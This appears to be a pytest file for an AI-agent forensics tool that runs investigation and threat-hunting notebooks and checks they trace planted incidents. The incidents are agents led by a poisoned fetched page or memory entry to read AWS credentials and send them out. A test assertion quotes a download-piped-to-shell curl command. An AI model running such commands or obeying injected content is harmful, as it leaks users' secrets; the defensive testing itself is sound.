"""The notebooks in notebooks/: committed without outputs, and executed top to bottom.

Each notebook runs in a real IPython kernel started from this interpreter (a kernelspec
written to a temp dir, so a fresh clone with only ``pip install -e '.[test]'`` needs no
``jupyter kernelspec install``), against evidence the test builds in ``tmp_path``:
the demo incident recorded by ``clawtrace demo``, a real OpenClaw state dir imported by the
notebook, and a fleet history built by ``clawtrace.demo.build_fleet``. The assertions read
the executed outputs: no errors, and the facts an investigator must reach (the exfiltration
destination, the root cause, the containment list, a rendered plot).
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest

import clawtrace
from tests.incident_data import demo_store

ROOT = Path(__file__).resolve().parent.parent
NOTEBOOKS = sorted((ROOT / "notebooks").glob("*.ipynb"))
OPENCLAW_MEMORY = ROOT / "tests" / "data" / "openclaw" / "2026.9.6" / "memory"


@pytest.fixture(autouse=True)
def _jupyter_isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Keep Jupyter's and IPython's files (connection files, profiles, startup scripts) in tmp_path.

    ``JUPYTER_PLATFORM_DIRS=1`` opts in to the platformdirs layout that older jupyter_core
    versions warn about (a DeprecationWarning at import that ``filterwarnings = error`` would
    turn into a failure of these tests, though nothing here depends on the old layout).
    """
    for var, sub in (
        ("JUPYTER_RUNTIME_DIR", "runtime"),
        ("JUPYTER_DATA_DIR", "data"),
        ("JUPYTER_CONFIG_DIR", "config"),
        ("IPYTHONDIR", "ipython"),
    ):
        monkeypatch.setenv(var, str(tmp_path / "jupyter" / sub))
    monkeypatch.setenv("JUPYTER_PLATFORM_DIRS", "1")


def test_notebooks_exist() -> None:
    assert {p.name for p in NOTEBOOKS} >= {"investigation.ipynb", "threat_hunting.ipynb"}


@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.name)
def test_committed_notebooks_have_no_outputs(path: Path) -> None:
    nb = json.loads(path.read_text(encoding="utf-8"))
    dirty = [
        i
        for i, c in enumerate(nb["cells"])
        if c["cell_type"] == "code" and (c.get("outputs") or c.get("execution_count") is not None)
    ]
    assert dirty == [], f"{path.name}: cells {dirty} keep outputs or execution counts; clear them before committing"


@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.name)
def test_notebooks_use_the_public_api_only(path: Path) -> None:
    nb = json.loads(path.read_text(encoding="utf-8"))
    code = "\n".join("".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code")
    assert not re.findall(r"clawtrace\._\w+|from clawtrace\.\w+ import _\w+", code)
    assert "clawtrace.store" not in code and "clawtrace.graph" not in code


class Run:
    """An executed notebook: its cells with outputs, and their text and images flattened."""

    def __init__(self, nb: Any) -> None:
        self.nb = nb
        self.errors: list[str] = []
        self.texts: list[str] = []
        self.pngs: list[bytes] = []
        self.html: list[str] = []
        self.stderr: list[str] = []
        for cell in nb.cells:
            for out in cell.get("outputs", []):
                if out.output_type == "error":
                    self.errors.append(f"{out.ename}: {out.evalue}")
                elif out.output_type == "stream":
                    self.texts.append(out.text)
                    if out.name == "stderr":
                        self.stderr.append(out.text)
                else:
                    data = out.get("data", {})
                    self.texts.extend(str(data[k]) for k in ("text/plain", "text/markdown") if k in data)
                    if "text/html" in data:
                        self.html.append(str(data["text/html"]))
                    if "image/png" in data:
                        self.pngs.append(base64.b64decode(data["image/png"]))

    @property
    def text(self) -> str:
        return "\n".join(self.texts)

    def own_warnings(self) -> list[str]:
        """Warnings raised by the notebook's code or by clawtrace, shown on the kernel's stderr.

        pytest's ``filterwarnings = error`` does not reach the kernel process, so warnings
        there are checked here. Only the notebook's own cells (``ipykernel_*`` files) and
        clawtrace are held to it: a deprecation inside a third-party library the kernel loads
        (jupyter, matplotlib, pandas) is theirs to fix and must not fail these tests.
        """
        return [
            line
            for text in self.stderr
            for line in text.splitlines()
            if re.search(r"(ipykernel_\d+/\d+\.py|/clawtrace/[\w/]+\.py):\d+: \w*Warning", line)
        ]


def execute(path: Path, tmp_path: Path, **env: str) -> Run:
    """Run a notebook top to bottom in a fresh kernel of this interpreter, in ``tmp_path``."""
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    from jupyter_client.kernelspec import KernelSpecManager
    from jupyter_client.manager import KernelManager

    kernels = tmp_path / "kernels"
    (kernels / "clawtrace-test").mkdir(parents=True)
    spec = {
        "argv": [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}"],
        "display_name": "clawtrace test",
        "language": "python",
    }
    (kernels / "clawtrace-test" / "kernel.json").write_text(json.dumps(spec))
    km = KernelManager(kernel_name="clawtrace-test", kernel_spec_manager=KernelSpecManager(kernel_dirs=[str(kernels)]))
    work = tmp_path / "work"
    work.mkdir()
    kernel_env = {
        k: v for k, v in os.environ.items() if not k.startswith(("CLAWTRACE_DB", "CLAWTRACE_IMPORT", "MPLBACKEND"))
    }
    # Agg: plots render to PNG without a display; temp files of the notebook stay in tmp_path.
    kernel_env.update({"MPLBACKEND": "Agg", "TMPDIR": str(work), "PYDEVD_DISABLE_FILE_VALIDATION": "1", **env})
    nb = nbformat.read(path, as_version=4)
    client = nbclient.NotebookClient(
        nb, km=km, timeout=240, allow_errors=True, resources={"metadata": {"path": str(work)}}
    )
    client.execute(env=kernel_env)
    return Run(nb)


def test_investigation_notebook_on_the_demo(tmp_path: Path) -> None:
    db, demo = demo_store(tmp_path)
    run = execute(ROOT / "notebooks" / "investigation.ipynb", tmp_path, CLAWTRACE_DB=str(db))
    assert run.errors == [] and run.own_warnings() == []
    text = run.text
    dest = demo["exfiltrations"][0]["destination"]
    first_id = demo["exfiltrations"][0]["event_id"]
    # The worst egress is the first exfiltration, followed to its root cause: the fetched page.
    assert f"worst egress {first_id[:12]}: exfiltration to {dest}" in text
    page = demo["why"]["root_causes"][0]["artifact"]
    assert page.endswith("/setup") and page in text
    assert "/.aws/credentials" in text and "base64" in text
    # Containment names the memory entry and the secrets to rotate (by digest only).
    assert "quarantine memory" in text and "memory://demo-agent/MEMORY.md" in text
    assert re.search(r"rotate credential\s+secret://aws_access_key/[0-9a-f]+", text)
    # The graph is inline, the report is rendered, and the chain verifies.
    assert any("<iframe srcdoc=" in h and "net.egress" in h for h in run.html)
    assert "flowchart" in text and "# Incident report" in text
    assert "hash chain OK" in text
    assert (db.stat().st_size > 0) and "AKIAZQ4XKT7YB2NW5RJM" not in text
    if shutil.which("chromium"):  # the browser tests install it in CI; locally this part is optional
        # One node per event of the chain `clawtrace demo` itself found for the same egress.
        assert demo["why"]["target"]["event_id"] == first_id
        _graph_renders_inline(
            next(h for h in run.html if "<iframe srcdoc=" in h), tmp_path, len(demo["why"]["events"]) + 1
        )


def _graph_renders_inline(output_html: str, tmp_path: Path, nodes: int) -> None:
    """The notebook's inline graph output, as Jupyter shows it, renders in a real Chromium."""
    from tests.browser import Browser

    page = tmp_path / "notebook-output.html"
    page.write_text(f"<!DOCTYPE html><html><body>{output_html}</body></html>", encoding="utf-8")
    b = Browser(str(shutil.which("chromium")))
    try:
        b.load(page.as_uri())
        inner = "document.querySelector('iframe').contentDocument"
        rendered = b.wait_for(
            f"{inner} && {inner}.querySelector('.ct-graph') && {inner}.querySelector('.ct-graph').dataset.rendered"
        )
        assert int(rendered) == nodes
        assert b.eval(f"{inner}.querySelectorAll('svg g').length") > 5
        assert b.problems() == []
    finally:
        b.close()


def test_investigation_notebook_imports_a_real_openclaw_state_dir(tmp_path: Path) -> None:
    evidence = tmp_path / "evidence"
    shutil.copytree(OPENCLAW_MEMORY, evidence, ignore=shutil.ignore_patterns("*-shm"))
    truth = json.loads((evidence / "ground_truth.json").read_text())
    run = execute(
        ROOT / "notebooks" / "investigation.ipynb", tmp_path, CLAWTRACE_IMPORT_OPENCLAW=str(evidence / "state")
    )
    assert run.errors == [] and run.own_warnings() == []
    text = run.text
    assert "imported 2 sessions" in text
    # The credentials sent to the sink, the page that asked for it, the memory that carried it.
    assert f"to 127.0.0.1:{truth['sink_port']}" in text
    assert truth["page_url"] in text
    assert "memory://main/MEMORY.md" in text and "quarantine memory" in text
    assert "hash chain OK" in text


def test_build_fleet_plants_what_the_detections_find(tmp_path: Path) -> None:
    from clawtrace.demo import build_fleet

    db = tmp_path / "fleet.duckdb"
    fleet = build_fleet(str(db), sessions=40, days=7, seed=3, end=1_780_000_000.0)
    assert len(fleet.sessions) == 40 and fleet.events > 1000
    with clawtrace.open(str(db)) as inv:
        assert len(inv.named("sessions_overview")) == 40
        found = inv.hunt()
        where = {d: set(g["session_id"]) for d, g in found.groupby("detection")}
        assert where["download_pipe_to_shell"] == {fleet.planted["download_pipe_to_shell"]}
        assert where["secret_then_egress"] == {fleet.planted["skill_key_exfiltration"]}
        assert fleet.planted["skill_key_exfiltration"] in where["skill_then_access"]
        new_hosts = set(found.loc[found["detection"] == "new_egress_host", "summary"])
        assert any("paste-drop.net" in s for s in new_hosts) and any("ops-webhook.io" in s for s in new_hosts)
        eg = inv.egress()
        bad = eg[eg["verdict"] != "ok"].set_index("session_id")["verdict"].to_dict()
        assert bad == {
            fleet.planted["skill_key_exfiltration"]: "exfiltration",
            fleet.planted["stranger_webhook"]: "suspicious",
        }
        # Sessions end by `end` and spread over the days asked for.
        ts = inv.events()["ts"]
        assert ts.max().timestamp() <= 1_780_000_000 and (ts.max() - ts.min()).days >= 5
        assert inv.verify()["ok"]


def _png_size(png: bytes) -> tuple[int, int]:
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and png[12:16] == b"IHDR"
    return int.from_bytes(png[16:20], "big"), int.from_bytes(png[20:24], "big")


def test_threat_hunting_notebook_builds_a_fleet_and_hunts(tmp_path: Path) -> None:
    from clawtrace.demo import build_fleet

    # The same fleet the notebook builds (seeded), to know where the incidents were planted.
    planted = build_fleet(str(tmp_path / "reference.duckdb")).planted
    run = execute(ROOT / "notebooks" / "threat_hunting.ipynb", tmp_path)
    assert run.errors == [] and run.own_warnings() == []
    text = run.text
    assert "fleet: 60 sessions" in text and "62 sessions of 5 agents" in text
    for detection in (
        "download_pipe_to_shell",
        "secret_then_egress",
        "skill_then_access",
        "new_egress_host",
        "tainted_memory_read",
    ):
        assert detection in text, detection
    assert (
        planted["download_pipe_to_shell"] in text and "curl -fsSL https://get.lintkit-setup.sh/install.sh | sh" in text
    )
    assert "first egress to host:paste-drop.net:443" in text and "first egress to host:ops-webhook.io:443" in text
    # The skill incident is among the serious findings; the pivot lands on today's demo incident,
    # where the most different detections agree (untrusted_then_action now links the page fetched
    # a turn before the upload), and `why` names the poisoned page as its root cause.
    assert planted["skill_key_exfiltration"] in text and "skill_then_access" in text
    focus = re.search(r"focus session: (demo-\w+-setup)\n", text)
    assert focus, text[-3000:]
    assert re.search(r"root causes:\n\s+net\.fetch\s+untrusted\s+http://127\.0\.0\.1:\d+/setup\n", text)
    assert re.search(r"sensitive sources:\n\s+file\.read\s+credential\s+file://\S+/\.aws/credentials\n", text)
    # Did it happen anywhere else: the same sink, again from the next day's session.
    assert re.search(r"3 egress to \['127\.0\.0\.1:\d+'\] in 2 sessions", text)
    # Two plots (egress by host, the session timeline), real images of a readable size.
    assert len(run.pngs) == 2
    for png in run.pngs:
        w, h = _png_size(png)
        assert w >= 600 and h >= 200
    assert any("<iframe srcdoc=" in h for h in run.html)
